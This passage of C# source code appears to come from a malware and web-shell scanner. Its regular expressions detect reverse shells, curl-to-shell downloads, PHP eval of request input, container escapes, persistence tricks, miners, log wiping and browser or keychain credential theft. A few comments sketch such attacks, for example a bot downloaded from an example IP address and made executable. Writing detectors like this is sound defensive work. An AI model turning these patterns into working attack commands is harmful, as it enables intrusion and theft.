    [GeneratedRegex(@"\b(?:include|require)(?:_once)?\s*\(?\s*""(?=[^""\n]{0,300}\\x[0-9a-f]{2}[^""\n]{0,100}\\x[0-9a-f]{2}[^""\n]{0,100}\\(?:x[0-9a-f]{2}|[0-7]{2,3}))[^""\n]{4,300}""", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex HiddenInclude();

    [GeneratedRegex(@"\barray_map\s*\(\s*['""]chr['""]\s*,\s*(?:array\s*\(|\[)\s*\d+|(?:\(\s*""(?:[^""\\\n]|\\x?\w{1,3})""\s*\^\s*""(?:[^""\\\n]|\\x?\w{1,3})""\s*\)\s*\.?\s*){4}", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex LettersOfName();

    // A function whose body is decoded by functions whose names are variables; a function that is chosen by a decoded name.
    [GeneratedRegex(@"\bcreate_function\s*\(\s*['""]{2}\s*,\s*@?\$\w{1,40}\s*\(\s*@?\$\w{1,40}\s*\(", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex MadeFunction();

    [GeneratedRegex(@"\b(?:array_map|array_filter|array_walk|call_user_func(?:_array)?|usort|register_shutdown_function)\s*\(\s*@?(?:base64_decode|strrev|str_rot13|hex2bin)\s*\(\s*['""]", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex CallsByDecoded();

    [GeneratedRegex(@"\b(?:array_map|array_filter|array_walk|call_user_func(?:_array)?|usort|register_shutdown_function)\s*\(\s*@?(?:base64_decode|strrev|str_rot13|hex2bin)\s*\(\s*['""]|(?<![\w>:$])@?\$\w{1,40}\s*\(\s*@?[\w'""$]", RegexOptions.CultureInvariant)]
    private static partial Regex CallsVariable();

    // var a = Request.Form["x"]; ... eval(a) - and of Java: getParameter("cmd"); ... exec(... c ...).
    private static string? EvaluatesKept(ScriptSource page)
    {
        var kept = FollowedNames.First(KeptRequest().Matches(page.Code), "v", StringComparer.OrdinalIgnoreCase);
        if (kept.Count == 0)
            return null;
        foreach (Match sink in EvaluatesName().Matches(page.Code))
            foreach (Match word in CommonPatterns.Word().Matches(sink.Groups["names"].Value))
                if (kept.TryGetValue(word.Value, out var from) && sink.Index >= from.Index + from.Length)
                    return $"{from.Value} ... {sink.Value}{sink.Groups["names"].Value}";
        return null;
    }

    [GeneratedRegex(@"\b(?:eval|execute)\s{0,20}\((?=\s{0,20}(?<names>\w{1,40})\s{0,20}[,)])|\.exec\s{0,20}\((?=(?<names>[^;\n]{0,300}\)))", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex EvaluatesName();

    [GeneratedRegex(@"\b(?<v>\w{1,40})\s*=\s*request\s*(?:\.\s*(?:getParameter|getHeader|Item|Form|QueryString|Params))?\s*[\[(]\s*[""'][^""'\n]{1,60}[""']\s*[\])]", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex KeptRequest();

    [GeneratedRegex(@"\b(?:curl|wget)\b(?>[^\n|;#]{0,200}?(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![.\d]))[^\n|;]{0,400}\|\s*(?:sudo\s+(?:-\w+\s+)?|nohup\s+)?(?:/bin/)?(?:ba|z|da)?sh\b|\b(?:ba)?sh\s+-c\s+[""']\$\(\s*(?:curl|wget)\b[^\n)]{0,200}(?:\d{1,3}\.){3}\d{1,3}", RegexOptions.CultureInvariant)]
    private static partial Regex NamelessPipe();

    [GeneratedRegex(@"\b(?:mips(?:el|64)?|mpsl|armv?[4-8]l?|arm64|aarch64|x86(?:_64)?|i[3-6]86|ppc|powerpc|sh4|sparc|spc|m68k|arc)\b", RegexOptions.CultureInvariant)]
    private static partial Regex Processors();

    [GeneratedRegex(@"\b(?:busybox\s+(?:wget|tftp|ftpget)|tftp\s+-\w|ftpget\s|wget\s[^\n]{0,100}(?:\d{1,3}\.){3}\d{1,3}|curl\s[^\n]{0,100}(?:\d{1,3}\.){3}\d{1,3})[^\n]{0,100}", RegexOptions.CultureInvariant)]
    private static partial Regex LoaderFetch();

    [GeneratedRegex(@"\b(?:docker|podman|nerdctl)\b(?>[^\n]{0,200}?\brun\b)(?>[^\n]{0,400}?-v\s+/:/\w{1,60})[^\n]{0,600}\bchroot\s+/\w+|\bchroot\s+/(?:mnt|host|hostfs|host-root|rootfs)\b[^\n]{0,120}(?:curl|wget|base64|/dev/tcp)|\bnsenter\b(?>[^\n]{0,80}?--target\s+1\b)[^\n]{0,280}(?:curl|wget|base64|/dev/tcp)", RegexOptions.CultureInvariant)]
    private static partial Regex ContainerEscape();

    [GeneratedRegex(@"display\s+dialog\b[\s\S]{0,400}?hidden\s+answer", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex AsksPassword();

    [GeneratedRegex(@"dscl\s+\S+\s+-?authonly|login\.keychain|\bsudo\s+-S\b|Login Data|security\s+(?:unlock|dump)-keychain|find-generic-password", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex OpensKeys();

    [GeneratedRegex(@"\bcurl\b[^\n]{0,200}(?:-F\b|-X\s*POST|--data|-d\s|--upload-file|-T\s)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex MacSends();

    [GeneratedRegex(@"autostart(?>[\s\S]{0,300}?\[Desktop Entry\])[\s\S]{0,500}(?:__file__|sys\.argv)|winreg\b(?>[\s\S]{0,400}?CurrentVersion\\{1,2}Run)[\s\S]{0,700}SetValueEx|CurrentVersion\\{1,2}Run\b[\s\S]{0,300}(?:winreg|_winreg)\.SetValueEx", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex PersistsInPython();

    [GeneratedRegex(@"(?:pyperclip|clipboard)\.paste\s*\(|GetClipboardData\s*\(|clipboard_get\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex ReadsClipboard();

    [GeneratedRegex(@"(?:pyperclip|clipboard)\.copy\s*\(|SetClipboard(?:Data|Text)\s*\(|clipboard_append\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex WritesClipboard();

    [GeneratedRegex(@"\beval\s*\(?\s*(?:Base64\.(?:strict_)?decode64\s*\(\s*)?(?:Net::HTTP\.get|URI\.open|open\s*\(\s*['""]https?:|LWP::Simple::get|get\s*\(\s*['""]https?:|HTTParty\.get)|(?:instance_eval|class_eval)\s*\(?\s*(?:Net::HTTP|URI\.open)|\bset\s+(?<v>\w{1,40})\s+to\s+do\s+shell\s+script\s+""curl\b[\s\S]{1,400}?\brun\s+script\s+\(?\s*\k<v>\b|\brun\s+script\s+\(\s*do\s+shell\s+script\s+""curl\b", RegexOptions.CultureInvariant)]
    private static partial Regex EvaluatesAnswer();

    [GeneratedRegex(@"TCPSocket\.(?:open|new)\s*\([\s\S]{0,300}(?:exec\b[^\n]{0,60}/bin/(?:ba)?sh|/bin/(?:ba)?sh\s+-i|IO\.popen\s*\(?\s*\w+\.gets|\.gets\b[\s\S]{0,200}?\b(?:Open3\.popen\w*|Open3\.capture\w*|IO\.popen|system|spawn)\s*\(?\s*\w{1,20}\b)|\.tcp\s*\(\s*\)[\s\S]{0,600}?:receive\s*\([\s\S]{0,200}?\b(?:io\.popen|os\.execute|loadstring)\s*\(\s*\w{1,20}\b|IO::Socket::INET(?>[\s\S]{0,200}?PeerAddr)[\s\S]{0,500}(?:STDIN->fdopen|open\s*\(\s*STDIN|exec\s*\(?\s*['""{]/bin/(?:ba)?sh|system\s*\$_)|socket\s*\(\s*S\s*,\s*PF_INET[\s\S]{0,400}exec\s*\(?\s*['""{]/bin/sh\s+-i", RegexOptions.CultureInvariant)]
    private static partial Regex HandsShell();

    private static List<string> Covers(ScriptSource script) =>
        [.. Cover().Matches(script.Code).Select(match => match.Value.Split(' ')[0]).Distinct(StringComparer.Ordinal).Take(8)];

    private static string? DownloadsAndRuns(ScriptSource script) =>
        NamelessDownload().Match(script.Code) is { Success: true } download && MakesRunnable().IsMatch(script.Code[download.Index..]) && !CurlPipe().IsMatch(download.Value) ? download.Value : ByKeptAddress(script.Code);

    // server="203.0.113.9" ... wget http://$server/bot ... chmod 777 bot
    private static string? ByKeptAddress(string code)
    {
        var kept = FollowedNames.First(KeptAddress().Matches(code), "v", StringComparer.Ordinal);
        return kept.Count == 0 ? null : DownloadOfVariable().Matches(code).FirstOrDefault(download =>
            kept.TryGetValue(download.Groups["v"].Value, out var address) && download.Index > address.Index && MakesRunnable().IsMatch(code, download.Index + download.Length)) is { } found ? $"{kept[found.Groups["v"].Value].Value.Trim()} ... {found.Value}" : null;
    }

    [GeneratedRegex(@"\b(?<v>\w{1,40})=[""']?(?:https?://)?(?:\d{1,3}\.){3}\d{1,3}\b[^\s""']{0,80}[""']?", RegexOptions.CultureInvariant)]
    private static partial Regex KeptAddress();

    [GeneratedRegex(@"\b(?:curl|wget|tftp|ftpget)\b[^\n;|$]{0,120}\$\{?(?<v>\w{1,40})[^\n;|]{0,120}", RegexOptions.CultureInvariant)]
    private static partial Regex DownloadOfVariable();

    private static string? RunsRequest(ScriptSource script) =>
        ScriptSign.First(script, RunsInput()) ?? ScriptSign.First(script, CallsByInput()) ?? PhpInput.Evaluated(script) ?? (Checks().IsMatch(script.Code) ? null : StartsKeptInput(script));

    // What a visitor sends is checked before it is used.
    [GeneratedRegex(@"\bescapeshell(?:arg|cmd)\s*\(|\bin_array\s*\(|\bfilter_var\s*\(|\bctype_\w+\s*\(|\bpreg_match\s*\(|\bwp_verify_nonce\b|\bintval\s*\(|\bswitch\s*\(", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Checks();

    // $cmd = $_GET['c']; ... system($cmd . ' 2>&1'); and $f = 'ass' . 'ert'; $f($_POST['x']).
    private static string? RunsKeptInput(ScriptSource script) => ScriptSign.First(script, EvaluatesCall()) ?? StartsKeptInput(script);

    // $tmp = tempnam(...); what came with the request is written there as code; include $tmp
    private static string? IncludesInput(ScriptSource script) =>
        (script.Texts.Any(text => text.Contains("php://input", StringComparison.Ordinal)) || BodyOfRequest().IsMatch(script.Code)) && script.Texts.Any(text => text.StartsWith("<?php", StringComparison.OrdinalIgnoreCase))
            ? Later(TemporaryFile(), IncludesFile(), script.Code) : null;

    [GeneratedRegex(@"php://input|\$_(?:POST|REQUEST|COOKIE)\b", RegexOptions.CultureInvariant)]
    private static partial Regex BodyOfRequest();

    [GeneratedRegex(@"\$(?<v>\w{1,40})\s{0,20}=\s{0,20}@?(?:tempnam|tmpfile)\s{0,20}\(", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex TemporaryFile();

    [GeneratedRegex(@"\b(?:include|require)(?:_once)?\s{0,20}\(?\s{0,20}\$(?<v>\w{1,40})\s{0,20}\)?\s{0,20};", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex IncludesFile();

    private static string? StartsKeptInput(ScriptSource script)
    {
        foreach (var text in new[] { script.Code, script.Folded })
        {
            var kept = FollowedNames.First(KeptInput().Matches(text), "name", StringComparer.OrdinalIgnoreCase);
            if (kept.Count > 0 && StartsVariable().Matches(text).FirstOrDefault(sink => kept.TryGetValue(sink.Groups["name"].Value, out var from) && sink.Index >= from.Index) is { } start)
                return $"{kept[start.Groups["name"].Value].Value} ... {start.Value}";
        }
        return null;
    }

    [GeneratedRegex(@"(?<!(?:->|::)\s{0,3})(?:\b(?:eval|assert|system|shell_exec|passthru|exec|popen|proc_open)\s{0,20}\(\s{0,20}@?\$(?<name>\w{1,40})\b|\$(?<name>\w{1,40})\s{0,20}\()", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex StartsVariable();

    [GeneratedRegex(@"\$(?<name>\w{1,40})\s*=\s*@?(?:\w+\s*\(\s*)*\$_(?:POST|GET|REQUEST|COOKIE)\s*\[[^\]\n]{1,40}\]", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex KeptInput();

    [GeneratedRegex(@"@?\$\w+\s*\(\s*@?\$_(?:POST|GET|REQUEST|COOKIE)\s*\[|\b(?:call_user_func(?:_array)?|array_map|array_filter|array_walk|usort|uasort|register_shutdown_function|create_function)\s*\(\s*[^;\n]{0,80}?\$_(?:POST|GET|REQUEST|COOKIE)\s*\[|\bpreg_replace\s*\(\s*['""](?<d>[/#~|@])[^'""]{0,60}\k<d>\w*e\w*['""]\s*,\s*@?\$_", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant, SearchTime.Limit)]
    private static partial Regex CallsByInput();

    [GeneratedRegex(@"\b(?:eval|assert)\s*\(\s*@?\$\{?\w+\}?(?:\s*\[[^\]\n]{1,40}\])?\s*\(", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex EvaluatesCall();

    [GeneratedRegex(@"\b(?:eval|execute(?:global)?)\s*\(?\s*(?:\w{1,20}\.)?request\b|ProcessStartInfo\s*\([^;\n]{0,120}\bRequest\s*[.\[]|Assembly\s*\.\s*Load\s*\([^;\n]{0,200}(?:Request|InputStream|Session)|(?:defineClass|\.g)\s*\([^;\n]{0,200}(?:request|payload|decode)|\.exec\s*\(\s*(?:new\s+String\s*\[\s*\][^;\n]{0,100})?request\s*\.\s*getParameter|Arguments\s*=\s*[^;\n]{0,60}\bRequest\s*[.\[]", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex EvaluatesRequest();

    [GeneratedRegex(@"\brequest\s*(?:\.\s*(?:getParameter|getHeader|getInputStream|Item|Form|QueryString|Params|Headers|Cookies))?\s*[\[(]", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex RequestValue();

    [GeneratedRegex(@"getRuntime\s*\(\s*\)\s*\.\s*exec\s*\(|new\s+ProcessBuilder\s*\(|ProcessStartInfo\b|StartInfo\s*\.\s*FileName\s*=|WScript\.Shell|Shell\.Application", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex StartsProcess();

    [GeneratedRegex(@"\bcrontab\s+-(?=\s|$)|>>?\s*/etc/cron", RegexOptions.CultureInvariant)]
    private static partial Regex Cron();

    [GeneratedRegex(@"(?:base64\s+(?:-d|-D|--decode|-di)|openssl\s+(?:base64\s+-d|enc\s[^\n|]{0,80}-d)|xxd\s+-r[^\n|]{0,20}|rev)\s*\|\s*(?:(?:gunzip|zcat|gzip\s+-d)[^|\n]{0,20}\|\s*)?(?:sudo\s+)?(?:/bin/)?(?:ba|z|da)?sh\b|\beval\s+[""']?(?:\$\(|`)[^\n]{0,4000}base64\s+(?:-d|-D|--decode)|\b(?:xz|lzma|bzip2|gzip|zstd)\s(?:[^\n|]{0,60}\s)?-\w{0,6}d\w{0,6}\b[^\n|]{0,40}\|\s*(?:/bin/)?(?:ba)?sh\b|\beval\s+\\?\$[\w\[\]$]{1,60}\s*\|\s*\\?\$SHELL\b|base64\s+(?:-d|-D|--decode)[^\n|]{0,40}>\s*(?<f>/\S{2,100})\s*(?:&&|;|\n)\s*(?:chmod[^\n;&]{0,80}(?:&&|;|\n)\s*)?(?:(?:ba)?sh\s+)?\k<f>", RegexOptions.CultureInvariant)]
    private static partial Regex DecodePipe();

    [GeneratedRegex(@"\b(?:curl|wget|tftp|busybox\s+wget)\b[^\n;|]{0,200}(?:https?://)?(?:\d{1,3}\.){3}\d{1,3}[^\n;|]{0,200}", RegexOptions.CultureInvariant)]
    private static partial Regex NamelessDownload();

    [GeneratedRegex(@"chmod\s+(?:\+x|[0-7]{3,4}|[ugoa]+\+x)|\bnohup\s|;\s*\./\S|\|\s*tar\s+-?x", RegexOptions.CultureInvariant)]
    private static partial Regex MakesRunnable();

    [GeneratedRegex(@"stratum\+(?:tcp|ssl)://|\b(?:xmrig|minerd|cpuminer|ccminer|xmr-stak)\b[^\n]{0,200}(?:-o|--url|donate-level)|--(?:cpu-max-threads-hint|donate-level|rig-id|randomx-\w+)[= ]|--coin[= ]monero|vm\.nr_hugepages=[\s\S]{0,200}\bmodprobe\s+msr\b|\b-a\s+(?:rx/0|kawpow|randomx)\s", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Mining();

    [GeneratedRegex(@"\b(?:vmsyslogd\s+stop|esxcli\s+system\s+syslog\s+config|find\s+/\s+-name\s+['""]\*\.log['""]\s+(?:-exec\s+\S*rm\b|-delete\b)|rm\s[^\n;&|]{0,120}?[""']?\$0\b|iptables\s+-[AI]\s+INPUT\s[^\n;]{0,60}port\s+(?:23|2323|7547|5555)\s+-j\s+DROP|touch\s+-r\s+/etc/\w|history\s+-c\b|set\s\+o\s+history|HISTFILE=/dev/null|touch\s+-r\s+/(?:usr/)?bin/|chattr\s+-?R?\s*\+i\b|aliyun-service\s+stop|YunJing/uninst|unset\s+HISTFILE|(?:rm|>)\s[^\n;]{0,80}(?:\.bash_history|/var/log/(?:auth|wtmp|secure|messages|syslog|lastlog))|setenforce\s+0|ufw\s+disable|iptables\s+-F|chattr\s+[-+]i\b[^\n;]{0,60}(?:ld\.so\.preload|/tmp/|cron|authorized_keys)|(?:pkill|killall)\s[^\n;]{0,60}(?:xmrig|kinsing|kdevtmpfsi|miner|watchbog|xmr)|systemctl\s+(?:stop|disable)\s+(?:apparmor|aliyun|firewalld|auditd|clamav))", RegexOptions.CultureInvariant)]
    private static partial Regex Cover();

    [GeneratedRegex(@"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:\w{1,60}\s{0,20}\.\s{0,20}){0,10}(?:requests\s*\.\s*get|urlopen|urllib2?\s*\.\s*\w+|httpx\s*\.\s*get)\s*\(|['""]-c['""]\s*,\s*(?:\w{1,60}\s{0,20}\.\s{0,20}){0,10}(?:requests\s*\.\s*get|urlopen|httpx\s*\.\s*get)\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex ExecOfDownload();

    [GeneratedRegex(@"\bVirtualAlloc(?:Ex)?\b|\bVirtualProtect\b", RegexOptions.CultureInvariant)]
    private static partial Regex WindowsMemory();

    [GeneratedRegex(@"\bCreateThread\b|\bCreateRemoteThread\b|\bQueueUserAPC\b|\bEnumSystemLocales\w*\b|\bCFUNCTYPE\b", RegexOptions.CultureInvariant)]
    private static partial Regex WindowsThread();

    [GeneratedRegex(@"Login Data|logins\.json|key4\.db|Local State|Cookies\b[^\n]{0,80}User Data|wallet\.dat|\\Exodus\\", RegexOptions.CultureInvariant)]
    private static partial Regex BrowserStore();

    [GeneratedRegex(@"CryptUnprotectData|encrypted_key|os_crypt|PK11SDR_Decrypt|password_value", RegexOptions.CultureInvariant)]
    private static partial Regex Unprotect();

    [GeneratedRegex(@"requests\.(?:post|put)\s*\(|discord(?:app)?\.com/api/webhooks|api\.telegram\.org/bot|urlopen\s*\([^\n]{0,300}data\s*=|request\.Request\s*\([^\n]{0,300}data\s*=|\.sendall?\s*\(|HTTPS?Connection\s*\([^\n]{0,200}|ftplib\.FTP\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex Sends();

    [GeneratedRegex(@"(?:dict|str|json\.dumps|repr)\s*\(\s*(?:dict\s*\(\s*)?os\.environ\s*\)|os\.environ\.(?:items|copy)\s*\(\s*\)[\s\S]{0,400}(?:post|urlopen|data=)", RegexOptions.CultureInvariant)]
    private static partial Regex Environment();

    [GeneratedRegex(@"class\s+\w{1,100}\s*\(\s*(?:\w{1,60}\.){0,10}_?(?:install|develop|egg_info|bdist_egg|build_py)\s*\)(?=[\s\S]{0,4000}cmdclass\s{0,20}=)", RegexOptions.CultureInvariant)]
    private static partial Regex InstallStep();

    [GeneratedRegex(@"\b(?:ba|z)?sh\s+<\(\s*(?:curl|wget)\b[^\n)]{0,200}(?:https?://|\$)|\b(?:curl|wget)\b(?>[^\n|;#]{0,200}?(?:https?://|[""'\s]\$\{?\w|%s/))[^\n|;]{0,400}\|\s*(?:(?:perl|sed|tr|gunzip|rev|base64)\s[^\n|;]{0,80}\|\s*){0,3}(?:sudo\s+(?:-\w+\s+)?|nohup\s+)?(?:/bin/)?(?:(?:ba|z|da)?sh\b|python[23]?(?:\s+-)?\s*(?:$|[;&|)""'>\n\\]))|\b(?:curl|wget)\b(?>[^\n|;#]{0,200}?https?://)[^\n|;]{0,400}\|\s*(?:sudo\s+(?:-\w+\s+)?|nohup\s+)?(?:/bin/)?(?:ba|z|da)?sh\b|\b(?:ba|z)?sh\s+-c\s+[""']\$\(\s*(?:curl|wget)\b[^\n)]{0,200}https?://", RegexOptions.CultureInvariant)]
    private static partial Regex CurlPipe();

    [GeneratedRegex(@"(?:bash|sh)\s+-i\s*[>&<]+\s*/dev/(?:tcp|udp)/|exec\s+\d+<>\s*/dev/(?:tcp|udp)/(?>\S{1,200})[\s\S]{0,200}(?:(?:sh|bash)\b[^\n]{0,60}[<>]&\s*\d|<&\s*\d[^\n]{0,80}\|\s*(?:/bin/)?(?:ba|z|da)?sh\b)|\bnc(?:at|\.traditional)?\s+(?:-\w{1,20}\s{1,20}){0,10}(?:-e|-c)\s{1,20}/?\S{0,100}sh\b|\bnc\s[^\n|]{0,80}-e\s+/bin/|mkfifo\s+(?<pipe>[^\s;]{1,200})[;\s](?>[^\n]{0,200}?\b(?:nc|telnet|openssl)\b)[^\n]{0,400}\k<pipe>|socat\s[^\n]{0,100}exec:['""]?(?:/bin/)?(?:ba)?sh|exec\s+\d+<>\s*/dev/(?:tcp|udp)/[\s\S]{1,300}(?:while\s+read[^\n]{0,100}\bdo\s+\\*[$`]|sh\s[^\n]{0,60}[<>]&\s*\d)|(?>\b(?:perl|python[23]?|ruby|php|lua|node|awk)\s+-\w{0,20}[ecr]\s[^\n]{0,600}?(?:socket|fsockopen|TCPSocket|net\.connect|/inet/tcp))[^\n]{0,1000}(?:/bin/(?:ba)?sh|pty\.spawn|exec\s*\(|\bsh\s+-i)|(?:nc|ncat|telnet)\s[^\n|]{0,100}\|\s*(?:/bin/)?(?:ba)?sh\b[^\n]{0,40}[|>]", RegexOptions.CultureInvariant)]
    private static partial Regex ReverseShell();

    [GeneratedRegex(@"(?>(?:\(\s*crontab\s+-l[^)\n]{0,300}?|echo\s[^\n|]{0,300}?)(?:(?<!>\s{0,2})/tmp/|/dev/shm/|/var/tmp/|/\.\w|curl\s|wget\s|base64\s))[^\n]{0,600}\|\s{0,20}crontab\b|(?>(?:echo|printf|cat)\s[^\n]{0,300}?(?:/tmp/|/dev/shm/|/var/tmp/|/\.\w|curl\s|wget\s|base64\s))[^\n]{0,600}>\s{0,20}/etc/cron|(?:echo|printf|cat)\s[^\n]{0,300}>>?\s*/etc/ld\.so\.preload|(?>(?:wget|curl)\s[^\n]{0,300}?\s(?:/\w{1,60}){0,12}/\.\w)[^\n]{0,500}chmod\s|>>\s*(?:~|\$HOME|/root|/(?:mnt|host)/root)/\.ssh/authorized_keys|\b(?:echo|printf)\s+['""]?ssh-(?:rsa|ed25519)\s[^\n>]{40,1600}>>\s*""?\$\{?\w{1,40}\}?/\.ssh/authorized_keys|\bExecStart=[^\n]{0,80}(?:<\(\s*(?:curl|wget)\b|(?:curl|wget)\b[^\n]{0,200}\|\s*(?:/bin/)?(?:ba)?sh\b)|(?:echo|printf)\s[^\n]{0,300}\|\s*(?:ba)?sh\b[^\n]{0,80}>\s*/etc/(?:update-motd\.d|profile\.d)/|(?:echo|printf)\s[^\n]{1,200}/\.\w[^\n]{0,100}&['""]?\s*>>\s*\S{0,40}/\.(?:bashrc|profile|zshrc|bash_profile)\b|\bcurl\s[^\n]{0,300}/\.\w[\s\S]{0,1500}?\blaunchctl\s+(?:load|bootstrap)\b", RegexOptions.CultureInvariant)]
    private static partial Regex Persistence();

    [GeneratedRegex(@"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:__import__\s*\(\s*['""]\w+['""]\s*\)\s{0,20}\.\s{0,20}|\w{1,60}\s{0,20}\.\s{0,20}){0,10}(?:b64decode|decompress|loads|unhexlify|fromhex|a85decode|b32decode)\s*\(|\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:bytes\s*\(\s*\[|['""]{1,3}(?:\\x[0-9a-f]{2}){20})|exec\s*\(\s*\(\s*lambda\b[^\n]{0,200}(?:b85decode|b64decode|decompress|marshal|fromhex)|exec\s*\(\s*\(\s*_\s*\)\s*\(|\b(?:exec|eval)\s*\(\s*(?:\w{1,60}\s{0,20}\.\s{0,20}){0,10}Fernet\s*\([^\n]{0,200}\)\s*\.\s*decrypt\s*\(", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ExecOfDecoded();

    [GeneratedRegex(@"\bsetup\s*\(\s*(?:\*\*|\w+\s*=)[\s\S]{0,8000}", RegexOptions.CultureInvariant)]
    private static partial Regex SetupCall();

    [GeneratedRegex(@"\brequests\.(?:get|post)\s*\(|\burlopen\s*\(|\burlretrieve\s*\(|\bsocket\.socket\s*\(|http\.client\.HTTPS?Connection\s*\(|os\.system\s*\(\s*[f]?['""][^'""]{0,200}(?:curl|wget|powershell|https?://)|subprocess\.\w+\s*\(\s*\[?\s*[f]?['""][^'""]{0,200}(?:curl|wget|powershell|https?://)", RegexOptions.CultureInvariant)]
    private static partial Regex SetupAction();

    // What is fetched and compared with a checksum that the script holds is a part of the package.
    private static string? ReachesOut(ScriptSource script) => ComparesChecksum().IsMatch(script.Code) && KeepsChecksum().IsMatch(script.Code)
        ? ScriptSign.First(script, SetupCommand())
        : ScriptSign.First(script, SetupAction());

    [GeneratedRegex(@"\.hexdigest\s*\(\s*\)\s*(?:!=|==)|(?:!=|==)\s*(?:hashlib\.)?\w{1,40}(?:\([^()\n]{0,80}\))?\.hexdigest\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex ComparesChecksum();

    [GeneratedRegex(@"['""](?:[0-9a-fA-F]{40}|[0-9a-fA-F]{64}|[0-9a-fA-F]{96}|[0-9a-fA-F]{128})['""]|['""][0-9a-f]['""]\s*\*\s*64|\b(?:sha256|sha512|checksum|digest)\w*\s*(?:=|:)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex KeepsChecksum();

    // Sends something, opens a connection of its own or starts a command that fetches.
    [GeneratedRegex(@"\brequests\.post\s*\(|\burlopen\s*\([^\n]{1,200}\bdata\s*=|\bsocket\.socket\s*\(|os\.system\s*\(\s*[f]?['""][^'""]{0,200}(?:curl|wget|powershell|https?://)|subprocess\.\w+\s*\(\s*\[?\s*[f]?['""][^'""]{0,200}(?:curl|wget|powershell|https?://)", RegexOptions.CultureInvariant)]
    private static partial Regex SetupCommand();

    [GeneratedRegex(@"__file__[^\n]{0,120}(?:\.read(?:_text|_bytes)?\s*\(|\bopen\s*\()|\b(?:open|Path)\s*\([^\n]{0,80}__file__", RegexOptions.CultureInvariant)]
    private static partial Regex ReadsBeside();

    [GeneratedRegex(@"\b(?:codecs\s*\.\s*decode|bytes\s*\.\s*fromhex|unhexlify|b64decode|b85decode)\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex UnpacksText();

    [GeneratedRegex(@"\bcompile(?:['""]\s*\])?\s*\([^\n]{1,200},\s*['""](?:exec|eval)['""]", RegexOptions.CultureInvariant)]
    private static partial Regex Compiles();

    [GeneratedRegex(@"(?:\b(?:0x[0-9a-fA-F]{1,2}|\d{1,3})\s{0,20},\s{0,20}){24}", RegexOptions.CultureInvariant)]
    private static partial Regex NumberList();

    // exec(Fernet(b'...').decrypt(b'...')): key and text stand side by side.
    [GeneratedRegex(@"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:\w{1,60}\s{0,20}\.\s{0,20}){0,10}Fernet\s*\(\s*b?['""][\w=+/-]{40,50}['""]\s*\)\s*\.\s*decrypt\s*\(\s*b?['""]", RegexOptions.CultureInvariant)]
    private static partial Regex ExecOfDecrypted();

    // Number 0 for a second account, or root's door and a key that is laid in.
    [GeneratedRegex(@"\b(?:useradd|adduser|usermod)\b(?=[^\n;|]{0,200}?\s-\w{0,20}o\b)[^\n;|]{0,200}\s-u\s{0,20}0\b|\b(?:echo|printf)\s(?>[^\n]{0,100}?:0:0:)[^\n]{0,200}>>\s{0,20}/etc/passwd|\b(?:echo|printf)\s(?>[^\n|]{0,800}?ssh-(?:rsa|ed25519)\s)(?>[^\n]{0,1600}?>>\s{0,20}(?:~root|/root)/\.ssh/authorized_keys)[\s\S]{0,600}?chattr\s+\+i", RegexOptions.CultureInvariant)]
    private static partial Regex SecondRoot();

    [GeneratedRegex(@"\bsocket\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex Socket();

    [GeneratedRegex(@"\bdup2\s*\(\s*\w+\.fileno\s*\(\s*\)\s*,\s*(?:[012]|\w+\s*\)\s*for\s+\w+\s+in)", RegexOptions.CultureInvariant)]
    private static partial Regex Duplicate();

    [GeneratedRegex(@"(?:pty\.spawn|subprocess\.\w+|os\.system|os\.exec\w*)\s*\(\s*\[?\s*['""](?:/bin/)?(?:ba|z|da)?sh", RegexOptions.CultureInvariant)]
    private static partial Regex ShellStart();

    [GeneratedRegex(@"\b(?:eval|assert|system|shell_exec|passthru|exec|popen|proc_open|create_function)\s*\(\s*@?(?:\(\s*)?(?:(?:base64_decode|stripslashes|gzinflate|str_rot13|trim|urldecode)\s*\(\s*)*@?\$_(?:POST|GET|REQUEST|COOKIE|SERVER)\s*\[|\$_(?:POST|GET|REQUEST|COOKIE)\s*\[[^\]]{1,40}\]\s*\(\s*\$_(?:POST|GET|REQUEST|COOKIE)|`\s*\$_(?:POST|GET|REQUEST)|preg_replace\s*\(\s*['""]/[^'""]{0,40}/\w*e\w*['""]\s*,\s*\$_(?:POST|GET|REQUEST)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex RunsInput();

